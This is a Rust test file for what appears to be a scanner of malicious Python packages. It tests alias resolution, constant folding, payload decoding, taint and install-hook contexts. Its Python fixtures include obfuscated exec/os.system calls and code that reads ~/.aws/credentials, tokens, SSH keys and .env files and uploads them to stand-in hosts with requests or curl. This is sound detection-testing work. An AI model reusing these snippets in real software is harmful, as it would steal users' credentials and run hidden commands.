//! Tests of the semantic model: name resolution, constant evaluation,
//! decoding, taint and execution contexts.

use super::*;

fn model(code: &str, role: FileRole) -> FileAnalysis {
    analyze("t.py", code.as_bytes(), role)
}

/// The value given as keyword `key` to the call `name`.
fn sent<'a>(a: &'a FileAnalysis, name: &str, key: &str) -> &'a Value {
    call(a, name)
        .keyword(key)
        .unwrap_or_else(|| panic!("no `{key}=` in the call of {name}"))
}

fn call<'a>(a: &'a FileAnalysis, name: &str) -> &'a Call {
    a.calls.iter().find(|c| c.name == name).unwrap_or_else(|| {
        panic!(
            "no call {name} in {:#?}",
            a.calls.iter().map(|c| &c.name).collect::<Vec<_>>()
        )
    })
}

#[test]
fn aliases_resolve_to_qualified_names() {
    let a = model(
        "import subprocess as sp\nfrom os import system as s\nimport importlib\n\
         sp.Popen(['id'])\ns('id')\n__import__('os').popen('id')\n\
         importlib.import_module('os').execv('/bin/sh', [])\ngetattr(__import__('os'), 'sys' + 'tem')('x')\n\
         import builtins\nbuiltins.exec('1')\nglobals()['__builtins__'].eval('2')\n",
        FileRole::Module,
    );
    for name in [
        "subprocess.Popen",
        "os.system",
        "os.popen",
        "os.execv",
        "builtins.exec",
        "builtins.eval",
    ] {
        call(&a, name);
    }
    assert_eq!(a.calls.iter().filter(|c| c.name == "os.system").count(), 2);
}

#[test]
fn constants_fold() {
    let a = model(
        "import os\nu = 'ptth'[::-1] + '://' + '.'.join(['1', '2', '3', '4'])\n\
         p = '%s/%s' % (u, 'x')\nq = '{}/{}'.format(u, 'y')\n\
         c = ''.join([chr(105), chr(100)])\nh = bytes.fromhex('6964').decode()\n\
         os.system(p)\nos.system(q)\nos.system(c)\nos.system(h)\nos.system(f'{u}/z')\n\
         os.system('abc'.replace('b', 'X'))\n",
        FileRole::Module,
    );
    let texts: Vec<String> = a
        .calls
        .iter()
        .filter(|c| c.name == "os.system")
        .map(|c| c.args[0].text.as_deref().unwrap_or("?").to_owned())
        .collect();
    assert_eq!(
        texts,
        [
            "http://1.2.3.4/x",
            "http://1.2.3.4/y",
            "id",
            "id",
            "http://1.2.3.4/z",
            "aXc"
        ]
    );
}

#[test]
fn decoded_payloads_are_analysed_at_their_line() {
    // exec(base64.b64decode("import os; os.system('id')"))
    let a = model(
        "import base64\nx = 1\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n",
        FileRole::Module,
    );
    let exec = call(&a, "builtins.exec");
    assert!(exec.args[0].has(taint::DECODED));
    let system = call(&a, "os.system");
    assert_eq!(system.line, 3);
    assert_eq!(
        system.via.as_ref().map(ToString::to_string).as_deref(),
        Some("base64")
    );
    assert_eq!(system.context, ExecContext::Import);
    assert_eq!(a.payloads.len(), 1);
    assert!(a.payloads[0].is_python);
}

#[test]
fn contexts_follow_the_call_graph() {
    let a = model(
        "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\
         def helper():\n    os.system('a')\n\
         class Hook(install):\n    def run(self):\n        self.go()\n    def go(self):\n        helper()\n\
         def unused():\n    os.system('b')\n\
         setup(name='x', cmdclass={'install': Hook})\n",
        FileRole::SetupScript,
    );
    let contexts: Vec<(&str, ExecContext)> = a
        .calls
        .iter()
        .filter(|c| c.name == "os.system")
        .map(|c| (c.args[0].text.as_deref().unwrap_or(""), c.context))
        .collect();
    assert_eq!(
        contexts,
        [("a", ExecContext::Install), ("b", ExecContext::Runtime)]
    );
}

#[test]
fn module_top_level_is_import_and_main_guard_is_runtime() {
    let a = model(
        "import os\nos.getcwd()\ndef f():\n    os.getpid()\nf()\nif __name__ == '__main__':\n    os.getuid()\n",
        FileRole::Module,
    );
    assert_eq!(call(&a, "os.getcwd").context, ExecContext::Import);
    assert_eq!(call(&a, "os.getpid").context, ExecContext::Import);
    assert_eq!(call(&a, "os.getuid").context, ExecContext::Runtime);
}

#[test]
fn taint_flows_through_names_and_methods() {
    let a = model(
        "import os, requests\nwith open(os.path.expanduser('~/.aws/credentials')) as f:\n    data = f.read()\n\
         requests.post('http://x', data=data)\nkey = os.environ['AWS_SECRET']\nrequests.get('http://y', params=key)\n",
        FileRole::Module,
    );
    let post = call(&a, "requests.post");
    assert!(post.keyword("data").unwrap().has(taint::SECRET));
    assert!(sent(&a, "requests.get", "params").has(taint::ENV));
}

#[test]
fn python2_source_still_yields_facts() {
    let a = model(
        "import os\nprint 'hello'\nexec 'os.system(\"id\")'\n",
        FileRole::Module,
    );
    assert!(a.parse_error.is_some());
    call(&a, "os.system");
}

#[test]
fn deep_nesting_does_not_overflow() {
    for (open, close) in [("[", "]"), ("-", ""), ("f(", ")"), ("(", ")"), ("not ", "")] {
        let code = format!("x = {}1{}\n", open.repeat(100_000), close.repeat(100_000));
        let a = model(&code, FileRole::Module);
        assert_eq!(a.path, "t.py");
    }
    let chain = format!("x = a{}\n", ".a".repeat(100_000));
    model(&chain, FileRole::Module);
    let sum = format!("import os\nos.system('i' {})\n", "+ 'd' ".repeat(100_000));
    let a = model(&sum, FileRole::Module);
    assert!(
        call(&a, "os.system").args[0]
            .text
            .as_deref()
            .unwrap()
            .starts_with("iddd")
    );
}

#[test]
fn pth_only_import_lines_run() {
    let a = model("/site/path\nimport os; os.system('id')\n", FileRole::Pth);
    let system = call(&a, "os.system");
    assert_eq!((system.line, system.context), (2, ExecContext::Startup));
}

#[test]
fn obfuscated_builtin_spelling_folds() {
    // `chr` spelled from the texts of builtins, then mapped over numbers
    // built with shifts.
    let a = model(
        "import os\nos.system(''.join(map(getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0]), [(13 << 3) + 1, 100])))\n",
        FileRole::Module,
    );
    assert_eq!(call(&a, "os.system").args[0].text.as_deref(), Some("id"));
}

#[test]
fn eval_of_constant_text_yields_the_named_object() {
    // BlankOBF-style lookups: every builtin fetched through `eval` of
    // escaped text, modules through `eval(compile("__import__(...)"))`.
    let a = model(
        "_e = eval('\\x65\\x76\\x61\\x6c')\n_c = _e('compile')\n\
         _b, _x = _e(_c(\"__import__('base64')\", '', 'eval')), _e(_c('exec', '', 'eval'))\n\
         _x(_b.b64decode(blob))\n",
        FileRole::Module,
    );
    let exec = call(&a, "builtins.exec");
    assert!(exec.args[0].has(taint::DECODED), "{exec:?}");
    call(&a, "base64.b64decode");
}

#[test]
fn comprehensions_over_constants_fold() {
    let a = model(
        "f = eval(''.join(chr(i) for i in [101, 120, 101, 99]))\nf(payload)\n\
         g = [c.upper() for c in 'os']\n",
        FileRole::Module,
    );
    call(&a, "builtins.exec");
    assert!(a.strings.iter().any(|s| &*s.value == "exec"));
    // Each repetition does not add its own facts.
    let chr = a.calls.iter().filter(|c| c.name == "builtins.chr").count();
    assert_eq!(chr, 1);
}

#[test]
fn names_bound_by_executed_payloads_are_visible_after_them() {
    let a = model(
        "exec(\"setattr(__builtins__, '_____', exec)\")\nexec('import subprocess as sp')\n\
         _____(code)\nsp.Popen(['id'])\n",
        FileRole::Module,
    );
    call(&a, "subprocess.Popen");
    assert!(
        a.calls
            .iter()
            .filter(|c| c.name == "builtins.exec")
            .any(|c| c.via.is_none() && c.args[0].text.is_none()),
        "the aliased exec of a variable is a call of builtins.exec"
    );
}

#[test]
fn wallet_keys_are_secret_but_their_signatures_are_not() {
    let a = model(
        "import hmac, requests\n\
         def leak(private_key):\n    requests.post('https://x.example', json={'k': private_key})\n\
         def sign(msg, private_key):\n    return hmac.new(private_key, msg, 'sha256').hexdigest()\n\
         def send(url, tx, private_key):\n    requests.post(url, json={'sig': sign(tx, private_key)})\n",
        FileRole::Module,
    );
    let posts: Vec<&Call> = a
        .calls
        .iter()
        .filter(|c| c.name == "requests.post")
        .collect();
    assert!(posts[0].all_args().any(|v| v.has(taint::SECRET)));
    assert!(!posts[1].all_args().any(|v| v.has(taint::SECRET)));
}

#[test]
fn calls_in_a_try_that_swallows_every_error_are_silenced() {
    let a = model(
        "import os, requests\n\
         try:\n    requests.get('https://a.example/')\nexcept:\n    pass\n\
         try:\n    os.system('id')\nexcept (ValueError, Exception):\n    ...\n\
         try:\n    exec('print(1)')\nexcept Exception:\n    pass\n\
         try:\n    os.popen('x')\nexcept OSError:\n    pass\n\
         try:\n    os.getcwd()\nexcept Exception:\n    log(1)\n\
         def later():\n    requests.post('https://b.example/')\n\
         try:\n    later()\nexcept Exception:\n    pass\n",
        FileRole::Module,
    );
    assert!(call(&a, "requests.get").silenced);
    assert!(call(&a, "os.system").silenced);
    assert!(call(&a, "builtins.exec").silenced);
    // Only some errors caught, or the handler does something: not silenced.
    assert!(!call(&a, "os.popen").silenced);
    assert!(!call(&a, "os.getcwd").silenced);
    // A function defined elsewhere is not inside the try.
    assert!(!call(&a, "requests.post").silenced);
}

#[test]
fn a_handler_that_returns_a_constant_or_catches_every_network_error_silences() {
    let a = model(
        "import requests, urllib.request, os\n\
         def a(x):\n    try:\n        requests.get(x)\n    except requests.RequestException:\n        return None\n\
         def b(x):\n    try:\n        urllib.request.urlopen(x)\n    except urllib.error.URLError:\n        return\n\
         def c(x):\n    try:\n        requests.put(x)\n    except requests.HTTPError:\n        return None\n\
         def d(x):\n    try:\n        requests.post(x)\n    except Exception:\n        return fallback(x)\n\
         def e(x):\n    try:\n        os.system(x)\n    except Exception:\n        return False\n",
        FileRole::Module,
    );
    assert!(call(&a, "requests.get").silenced);
    assert!(call(&a, "urllib.request.urlopen").silenced);
    assert!(call(&a, "os.system").silenced);
    // Only HTTP status errors caught, or the handler computes something.
    assert!(!call(&a, "requests.put").silenced);
    assert!(!call(&a, "requests.post").silenced);
}

#[test]
fn a_comprehension_walks_its_iterable_once() {
    let a = model(
        "names = [n.upper() for n in os.listdir(path)]\n",
        FileRole::Module,
    );
    let listdirs = a
        .calls
        .iter()
        .filter(|c| c.name.last_name_ends_with("listdir"))
        .count();
    assert_eq!(listdirs, 1);
}

#[test]
fn loops_over_constants_fold_what_they_accumulate() {
    let a = model(
        "key = 'k'\nout = ''\nfor i in range(len('abc')):\n    out += chr(ord('abc'[i]) + 1)\nimport os\nos.system(out)\n",
        FileRole::Module,
    );
    let system = a.calls.iter().find(|c| c.name == "os.system").unwrap();
    assert_eq!(system.args[0].text.as_deref(), Some("bcd"));
    // The loop body's facts are kept once, not once per item.
    assert_eq!(
        a.calls.iter().filter(|c| c.name == "builtins.chr").count(),
        1
    );
}

#[test]
fn loops_that_do_more_than_assign_are_walked_once() {
    let a = model(
        "import os\nfor name in ['a', 'b']:\n    os.remove(name)\n",
        FileRole::Module,
    );
    assert_eq!(a.calls.iter().filter(|c| c.name == "os.remove").count(), 1);
}

#[test]
fn unrolling_inside_unrolling_stops_at_the_budget() {
    // 2048 iterations, each unrolling a 2048-item comprehension, would be
    // 4 million evaluations: the budget stops the inner unrolling, and
    // the walk finishes with the value unknown rather than hanging.
    let text = "x".repeat(2048);
    let code = format!(
        "out = ''\nfor i in range(2048):\n    out = ''.join([c for c in '{text}'])\nimport os\nos.system(out)\n"
    );
    let a = model(&code, FileRole::Module);
    let system = a.calls.iter().find(|c| c.name == "os.system").unwrap();
    assert_eq!(system.args[0].text, None);
}

#[test]
fn environ_imported_by_name_is_the_whole_environment() {
    let a = model(
        "import requests\nfrom os import environ\ndump = ''\nfor _, v in environ.items():\n    dump += v\nrequests.post('https://x.example/', data=dump)\n",
        FileRole::Module,
    );
    let post = a.calls.iter().find(|c| c.name == "requests.post").unwrap();
    assert!(post.all_args().any(|v| v.has(taint::ENV_ALL)));
}

/// Issue 12: `s = f'{s}{s}'` 64 times doubled the text each time (a
/// 1.3 KB file reached tens of GiB). The constant stops at the budget, and
/// the file gets a note that AY401 reports.
#[test]
fn fstring_self_doubling() {
    let code = format!("s = 'ab'\n{}print(s)\n", "s = f'{s}{s}'\n".repeat(64));
    let a = model(&code, FileRole::Module);
    assert!(
        a.notes.iter().any(AnalysisNote::is_unanalysed),
        "{:?}",
        a.notes
    );
    let longest = a.strings.iter().map(|s| s.value.len()).max().unwrap_or(0);
    assert!(longest <= 64 * 1024, "{longest}");
}

/// The same doubling below the budget still folds to the constant.
#[test]
fn fstring_doubling_within_budget_folds() {
    let code = format!("s = 'ab'\n{}eval(s)\n", "s = f'{s}{s}'\n".repeat(4));
    let a = model(&code, FileRole::Module);
    assert!(a.notes.iter().all(|n| !n.is_unanalysed()));
    assert_eq!(
        call(&a, "builtins.eval").args[0].text.as_deref(),
        Some("ab".repeat(16).as_str())
    );
}

/// Issue 12: a class of 6,000 methods copied the growing class scope for
/// every method (N² memory). A method does not see its class body's names
/// (Python resolves them in the scope around the class), so nothing of the
/// class body is copied: no budget is spent and no note is written.
#[test]
fn class_with_6000_methods() {
    let methods: String = (0..6000)
        .map(|i| format!("    def m{i}(self):\n        return {i}\n"))
        .collect();
    let code = format!(
        "x = 'g' * 4\nclass C:\n    x = 'c' * 4\n{methods}    def last(self):\n        eval(x)\n"
    );
    let a = model(&code, FileRole::Module);
    assert!(a.notes.is_empty(), "{:?}", a.notes);
    assert_eq!(
        call(&a, "builtins.eval").args[0].text.as_deref(),
        Some("gggg")
    );
}

/// A method sees the module's names, not its class body's: `x` in `m` is
/// the global `x`, as in Python. A function nested in a function still
/// sees the enclosing function's names.
#[test]
fn methods_skip_the_class_body_nested_functions_do_not() {
    let code = "x = 'g' * 4\nclass C:\n    x = 'c' * 4\n    def m(self):\n        eval(x)\n";
    let a = model(code, FileRole::Module);
    assert_eq!(
        call(&a, "builtins.eval").args[0].text.as_deref(),
        Some("gggg")
    );
    let code = "def outer():\n    y = 'n' * 3\n    def inner():\n        exec(y)\n    inner()\n";
    let a = model(code, FileRole::Module);
    assert_eq!(
        call(&a, "builtins.exec").args[0].text.as_deref(),
        Some("nnn")
    );
}

/// Issue 12: a 10 MB unary chain (`x = ` and 5M `-`) grew the parser's
/// stack without limit. Nesting and tokens are measured before parsing;
/// the chain is past both limits, so it is not parsed, gets a note
/// (AY401), and the file's strings are still read.
#[test]
fn unary_chain_of_five_million() {
    let code = format!(
        "u = 'http://198.51.100.7/x'\nx = {}1\n",
        "-".repeat(5_000_000)
    );
    let a = model(&code, FileRole::Module);
    budget_note(&a, "tokens");
    assert!(a.strings.iter().any(|s| s.value.contains("198.51.100.7")));
    // Below the token budget, the nesting pre-check refuses it.
    let within = AnalysisLimits {
        max_parse_tokens: 10_000_000,
        ..AnalysisLimits::default()
    };
    let a = model_within(&code, &within);
    assert!(
        a.notes
            .iter()
            .any(|n| matches!(n, AnalysisNote::TooDeepToParse { .. }))
    );
    assert!(a.parse_error.is_some());
    assert!(a.strings.iter().any(|s| s.value.contains("198.51.100.7")));
}

/// Issue 12: 100k nested f-strings took seconds inside the parser.
#[test]
fn hundred_thousand_nested_fstrings() {
    let code = format!("x = {}1{}\n", "f'{".repeat(100_000), "}'".repeat(100_000));
    let a = model(&code, FileRole::Module);
    assert!(
        a.notes
            .iter()
            .any(|n| matches!(n, AnalysisNote::TooDeepToParse { .. }))
    );
}

/// Nesting below the limit, and dashes in strings and comments, parse.
#[test]
fn ordinary_nesting_is_parsed() {
    let code = format!(
        "# {}\ns = '{}'\nx = {}1{}\ny = - - -1\nexec('a')\n",
        "-".repeat(10_000),
        "(".repeat(10_000),
        "(".repeat(100),
        ")".repeat(100)
    );
    let a = model(&code, FileRole::Module);
    assert!(a.parse_error.is_none(), "{:?}", a.parse_error);
    call(&a, "builtins.exec");
}

fn model_within(code: &str, limits: &AnalysisLimits) -> FileAnalysis {
    analyze_within("t.py", code.as_bytes(), FileRole::Module, &[], true, limits)
}

/// The note on the budget `what` names, rendered as AY401 words it.
fn budget_note(a: &FileAnalysis, what: &str) -> String {
    a.notes
        .iter()
        .find(|n| match n {
            AnalysisNote::TokenBudget { .. } => what == "tokens",
            AnalysisNote::NodeBudget { .. } => what == "syntax nodes",
            AnalysisNote::ConstantBudget { .. } => what == "constants",
            AnalysisNote::FactBudget { .. } => what == "facts",
            _ => false,
        })
        .map(AnalysisNote::to_string)
        .unwrap_or_else(|| panic!("no note on {what} in {:?}", a.notes))
}

/// Issue 12: thousands of names each holding a 4 MiB constant plus one
/// character took 4.4 GiB at 1,000 names. Built constants share a budget
/// per file; past it values are unknown, with a note (AY401), and what
/// was built before stays known.
#[test]
fn thousand_names_of_four_mib_constants() {
    let mut code = String::from("import os\na = 'x' * 4194303\n");
    for i in 0..1000 {
        code.push_str(&format!("b{i} = a + '{}'\n", i % 10));
        if i == 0 {
            code.push_str("os.system(b0[-2:])\n");
        }
    }
    code.push_str("os.popen(b999[-2:])\n");
    let a = model(&code, FileRole::Module);
    budget_note(&a, "constants");
    assert_eq!(call(&a, "os.system").args[0].text.as_deref(), Some("x0"));
    assert_eq!(call(&a, "os.popen").args[0].text, None);
}

/// A loop unrolled over 16k items, growing a 4 MiB string by one
/// character each time, copied 64 GB: the constant budget stops it.
#[test]
fn loop_growing_a_four_mib_string() {
    let items = vec!["1"; 16_000].join(",");
    let code = format!("s = 'x' * 4194000\nfor i in [{items}]:\n    s = s + 'y'\nexec(s[:3])\n");
    let a = model(&code, FileRole::Module);
    budget_note(&a, "constants");
    assert_eq!(call(&a, "builtins.exec").args[0].text, None);
}

/// Within the budget, built constants fold as before.
#[test]
fn constants_within_the_budget_fold() {
    let code = "a = 'x' * 1000\nb = a + 'y'\nexec(b[-2:])\n";
    let a = model(code, FileRole::Module);
    assert!(a.notes.is_empty(), "{:?}", a.notes);
    assert_eq!(
        call(&a, "builtins.exec").args[0].text.as_deref(),
        Some("xy")
    );
    let tight = AnalysisLimits {
        max_constant_bytes: 500,
        ..AnalysisLimits::default()
    };
    let a = model_within(code, &tight);
    assert!(
        a.notes
            .contains(&AnalysisNote::ConstantBudget { budget_bytes: 500 })
    );
    assert!(budget_note(&a, "constants").contains("500 bytes of constants"));
    assert_eq!(call(&a, "builtins.exec").args[0].text, None);
}

/// Issue 12: 10M lines of `x=1` cost 3.7 GiB, 95 times the source, in the
/// parsed tree. Tokens are counted before parsing; the part past the
/// budget is cut at a top-level statement, not parsed, and its strings
/// are still read as text, on their own lines.
#[test]
fn ten_million_lines_of_x_equals_1() {
    let mut code = String::from("exec('first')\n");
    code.push_str(&"x=1\n".repeat(10_000_000));
    code.push_str("u = 'http://198.51.100.7/late'\n");
    let a = model(&code, FileRole::Module);
    assert!(
        a.notes.iter().any(|n| matches!(
            n,
            AnalysisNote::TokenBudget {
                from_line: Some(1_000_000),
                ..
            }
        )),
        "{:?}",
        a.notes
    );
    call(&a, "builtins.exec");
    let late = a
        .strings
        .iter()
        .find(|s| s.value.contains("198.51.100.7"))
        .expect("the unparsed part's strings are read");
    assert_eq!(late.line, 10_000_002);
    assert!(a.parse_error.is_none(), "{:?}", a.parse_error);
}

/// The cut falls where a top-level statement starts, never inside a
/// function, a bracket or a string, so what is parsed parses.
#[test]
fn the_token_cut_keeps_whole_statements() {
    let code = "def f():\n    a = 1\n    b = 2\n\nx = [\n1,\n2]\ns = '''\ny\n'''\nexec(s)\n";
    for max in 1..40 {
        let count = source::count_tokens(code, max);
        if let Some(cut) = count.cut {
            assert!(
                [
                    0,
                    code.find("x = [").unwrap(),
                    code.find("s = '''").unwrap(),
                    code.find("exec").unwrap()
                ]
                .contains(&cut),
                "cut at {cut} for {max}"
            );
            assert!(count.tokens <= max);
        }
    }
    assert_eq!(source::count_tokens(code, 1000).cut, None);
    let tight = AnalysisLimits {
        max_parse_tokens: 25,
        ..AnalysisLimits::default()
    };
    let a = model_within(code, &tight);
    assert!(a.parse_error.is_none(), "{:?}", a.parse_error);
    budget_note(&a, "tokens");
    assert!(a.calls.iter().all(|c| c.name != "builtins.exec"));
}

/// A file that fits the token budget is counted only when a payload is
/// parsed after it, and then exactly: the payload gets what the file left.
#[test]
fn a_payload_gets_the_tokens_its_file_left() {
    // The file: 12 tokens in 46 bytes; its payload: 167 tokens.
    let code = "import os\nexec('x=1\\n' * 40 + 'os.system(1)\\n')\n";
    let limits = |tokens| AnalysisLimits {
        max_parse_tokens: tokens,
        ..AnalysisLimits::default()
    };
    assert_eq!(source::count_tokens(code, usize::MAX).tokens, 12);
    let roomy = model_within(code, &limits(12 + 167));
    call(&roomy, "os.system");
    let over = |n: &AnalysisNote| matches!(n, AnalysisNote::TokenBudget { .. });
    assert!(!roomy.notes.iter().any(over), "{:?}", roomy.notes);
    let tight = model_within(code, &limits(12 + 166));
    budget_note(&tight, "tokens");
    assert!(tight.calls.iter().all(|c| c.name != "os.system"));
}

/// Past the budget of walked nodes, the rest is not walked; what came
/// before is kept.
#[test]
fn walk_stops_at_the_node_budget() {
    let code = format!("exec('a')\n{}eval('b')\n", "x = 1\n".repeat(1000));
    let tight = AnalysisLimits {
        max_walk_nodes: 500,
        ..AnalysisLimits::default()
    };
    let a = model_within(&code, &tight);
    budget_note(&a, "syntax nodes");
    call(&a, "builtins.exec");
    assert!(a.calls.iter().all(|c| c.name != "builtins.eval"));
    let a = model(&code, FileRole::Module);
    assert!(a.notes.is_empty(), "{:?}", a.notes);
    call(&a, "builtins.eval");
}

/// Facts stop at the budget, the text pass of a file that does not parse
/// included.
#[test]
fn facts_stop_at_the_budget() {
    let tight = AnalysisLimits {
        max_facts: 100,
        ..AnalysisLimits::default()
    };
    let code = "exec('abcd')\n".repeat(1000);
    let a = model_within(&code, &tight);
    budget_note(&a, "facts");
    assert_eq!(a.calls.len() + a.strings.len(), 100);
    let broken = format!("{}def (:\n", "'abcd'\n".repeat(1000));
    let a = model_within(&broken, &tight);
    budget_note(&a, "facts");
    assert!(a.strings.len() <= 100, "{}", a.strings.len());
    let a = model(&code, FileRole::Module);
    assert_eq!(a.calls.len(), 1000);
}

/// A 100k-term concatenation folds whole within the constant budget: it
/// grows one buffer, charged for what each term adds, not for a copy of
/// everything before it (which would be 5 GB).
#[test]
fn long_concatenation_chain_is_charged_once() {
    let code = format!("import os\nos.system('i' {})\n", "+ 'dd' ".repeat(100_000));
    let a = model(&code, FileRole::Module);
    assert!(
        !a.notes
            .iter()
            .any(|n| matches!(n, AnalysisNote::ConstantBudget { .. })),
        "{:?}",
        a.notes
    );
    let text = call(&a, "os.system").args[0].text.clone().unwrap();
    assert_eq!(text.len(), 200_001);
}

/// Once the constant budget is spent, calls and slices are not folded:
/// 20,000 decodes of one 4 MiB string would still take their time.
#[test]
fn twenty_thousand_decodes_past_the_budget() {
    let mut code = String::from("import base64\na = 'QUJD' * 1048576\n");
    for i in 0..20_000 {
        code.push_str(&format!("b{i} = base64.b64decode(a)[:{}]\n", i % 7));
    }
    code.push_str("exec(base64.b64decode('cHJpbnQoMSk='))\n");
    let a = model(&code, FileRole::Module);
    budget_note(&a, "constants");
    // Taint still flows where nothing is folded.
    let exec = call(&a, "builtins.exec");
    assert!(exec.args[0].has(taint::DECODED), "{:?}", exec.args[0]);
}

#[test]
fn text_with_unknown_parts_is_a_template() {
    let a = model(
        "import os\nh = os.environ['HOME']\n\
         os.system(f'tar czf /tmp/k.tgz {h}/.ssh')\nos.system('curl ' + h)\n\
         os.system('%s/.aws' % h)\nos.system(f'echo {1}')\n",
        FileRole::Module,
    );
    let args: Vec<&Value> = a
        .calls
        .iter()
        .filter(|c| c.name == "os.system")
        .map(|c| &c.args[0])
        .collect();
    let printed: Vec<Option<&str>> = args.iter().map(|v| v.printed()).collect();
    assert_eq!(
        printed,
        [
            Some("tar czf /tmp/k.tgz {}/.ssh"),
            Some("curl {}"),
            Some("{}/.aws"),
            Some("echo 1"),
        ]
    );
    for value in &args[..3] {
        assert!(value.text.is_none(), "{value:?}");
        let template = value.template.as_ref().expect("a template");
        assert!(template.has_holes());
        assert!(template.holes().all(|h| h.taint & taint::ENV != 0));
    }
    let fstring = args[0].template.as_ref().unwrap();
    assert_eq!(fstring.literal_prefix(), "tar czf /tmp/k.tgz ");
    let percent = args[2].template.as_ref().unwrap();
    assert_eq!(percent.after_leading_hole(), Some("/.aws"));
    // Constant text is not a template.
    assert!(args[3].template.is_none());
    assert_eq!(args[3].text.as_deref(), Some("echo 1"));
}

#[test]
fn a_name_bound_in_any_branch_keeps_that_branch_s_taint() {
    let a = model(
        "import os, requests\n\
         if os.environ.get('K'):\n    key = os.environ.get('AWS_SECRET_ACCESS_KEY')\nelse:\n    key = 'empty'\n\
         try:\n    home = open(os.path.expanduser('~/.aws/credentials')).read()\nexcept OSError:\n    home = ''\n\
         plain = 'a' if os.name else 'b'\n\
         requests.post('https://h.example/', data=key)\n\
         requests.put('https://h.example/', data=home)\n\
         requests.get('https://h.example/' + plain)\n",
        FileRole::Module,
    );
    let key = &sent(&a, "requests.post", "data");
    assert!(key.has(taint::ENV_SECRET));
    // The tainted value stands for the name, not the `else` constant.
    assert_eq!(key.text, None);
    assert!(sent(&a, "requests.put", "data").has(taint::SECRET));
    assert_eq!(call(&a, "requests.get").args[0].taint, 0);
}

#[test]
fn environment_variables_named_as_credentials_are_env_secrets() {
    let a = model(
        "import os, requests\nrequests.post('u', data=os.getenv('GITHUB_TOKEN'))\n\
         requests.put('u', data=os.environ['AWS_ACCESS_KEY_ID'])\n\
         requests.get('u', params=os.environ.get('HTTP_PROXY'))\n",
        FileRole::Module,
    );
    assert!(sent(&a, "requests.post", "data").has(taint::ENV_SECRET));
    assert!(sent(&a, "requests.put", "data").has(taint::ENV_SECRET));
    let proxy = sent(&a, "requests.get", "params");
    assert!(proxy.has(taint::ENV) && !proxy.has(taint::ENV_SECRET));
}

#[test]
fn an_environment_lookup_is_its_default_unless_the_user_set_it() {
    let a = model(
        "import os, urllib.request\nuc = 'moc.elpmaxe.kooh//:sptth'\n\
         endpoint = os.environ.get('MY_URL', uc[::-1])\nurllib.request.urlopen(endpoint)\n",
        FileRole::Module,
    );
    let sent = &call(&a, "urllib.request.urlopen").args[0];
    assert_eq!(sent.text.as_deref(), Some("https://hook.example.com"));
    assert!(sent.has(taint::ENV));
}

#[test]
fn files_picked_by_a_credential_name_hold_secrets() {
    let a = model(
        r#"import os, requests
from pathlib import Path

def sweep(root):
    found = []
    for d, _, files in os.walk(root):
        for f in files:
            if f == ".env" or f.endswith((".npmrc", ".pypirc")):
                found.append(os.path.join(d, f))
    return found

def grab(root):
    texts = [Path(p).read_text() for p in sweep(root)]
    requests.post("https://h.example/", json=texts)

def keys():
    requests.put("https://h.example/", data=[open(p).read() for p in Path.home().rglob("id_rsa")])

def logs(root):
    requests.patch("https://h.example/", data=[open(p).read() for p in os.listdir(root) if p.endswith(".log")])
"#,
        FileRole::Module,
    );
    assert!(sent(&a, "requests.post", "json").has(taint::SECRET));
    assert!(sent(&a, "requests.put", "data").has(taint::SECRET));
    assert!(!sent(&a, "requests.patch", "data").has(taint::SECRET));
    assert!(names::is_credential_file_name("**/*.env"));
    assert!(names::is_credential_file_name(".env.production"));
    assert!(!names::is_credential_file_name(".envelope"));
    assert!(!names::is_credential_file_name("environment.yml"));
}

#[test]
fn a_library_function_started_on_a_thread_is_called() {
    let a = model(
        "import os, threading, subprocess\nfrom concurrent.futures import ThreadPoolExecutor\n\
         threading.Thread(target=os.system, args=('id',)).start()\n\
         ThreadPoolExecutor().submit(subprocess.run, ['ls'])\n\
         threading.Thread(target=print, args=('hi',)).start()\n",
        FileRole::Module,
    );
    assert_eq!(call(&a, "os.system").args[0].text.as_deref(), Some("id"));
    call(&a, "subprocess.run");
    assert!(!a.calls.iter().any(|c| c.name == "builtins.print"));
}

#[test]
fn a_package_function_started_on_a_thread_is_called_with_each_argument() {
    let a = model(
        "import threading\n\
         def ship(key, host):\n    pass\n\
         def start(secret, where):\n    threading.Thread(target=ship, args=(secret, where)).start()\n",
        FileRole::Module,
    );
    let started = a.local_calls.iter().find(|c| &*c.callee == "ship").unwrap();
    assert_eq!(started.function.as_deref(), Some("start"));
    assert_eq!(started.args.len(), 2);
    assert_eq!(started.args[0].params, 1 << 0);
    assert_eq!(started.args[1].params, 1 << 1);
}

#[test]
fn star_parameters_carry_what_the_caller_passed_beyond_the_named_ones() {
    let a = model(
        "import requests\n\
         def measure(first, *rest, flag, **extra):\n\
         \x20   requests.post('https://x.example/r', json=[rest, extra])\n",
        FileRole::Module,
    );
    let measure = a.functions.iter().find(|f| &*f.name == "measure").unwrap();
    assert_eq!(
        &*measure.params,
        ["first", "*rest", "flag", "**extra"].map(Arc::from)
    );
    assert_eq!(sent(&a, "requests.post", "json").params, 1 << 1 | 1 << 3);
}

#[test]
fn a_copy_of_credential_folders_is_a_path_to_credentials() {
    let a = model(
        "import os, shutil, subprocess, tempfile\n\
         def pack():\n\
         \x20   out = tempfile.mkdtemp()\n\
         \x20   for name in ('.ssh', '.aws'):\n\
         \x20       shutil.copytree(os.path.join(os.path.expanduser('~'), name), os.path.join(out, name))\n\
         \x20   return shutil.make_archive('/tmp/x', 'zip', out)\n\
         def send():\n\
         \x20   path = pack()\n\
         \x20   subprocess.run(['curl', '-F', f'f=@{path}', 'http://192.0.2.7/u'])\n\
         \x20   subprocess.run(['ls', path])\n",
        FileRole::Module,
    );
    let runs: Vec<_> = a
        .calls
        .iter()
        .filter(|c| c.name == "subprocess.run")
        .collect();
    assert!(runs[0].args[0].has(taint::SECRET), "{:?}", runs[0].args[0]);
    assert!(!runs[1].args[0].has(taint::SECRET), "{:?}", runs[1].args[0]);
}

#[test]
fn functions_keep_their_decorators_and_docstring() {
    let a = model(
        "from mcp.server.fastmcp import FastMCP\nmcp = FastMCP('x')\n\
         @mcp.tool()\ndef add(a, b):\n    \"\"\"Adds.\"\"\"\n    return a + b\n",
        FileRole::Module,
    );
    let add = a.functions.iter().find(|f| &*f.name == "add").unwrap();
    assert_eq!(add.docstring.as_deref(), Some("Adds."));
    assert_eq!(
        add.decorators
            .iter()
            .map(QualName::as_str)
            .collect::<Vec<_>>(),
        ["mcp.server.fastmcp.FastMCP().tool()"]
    );
}

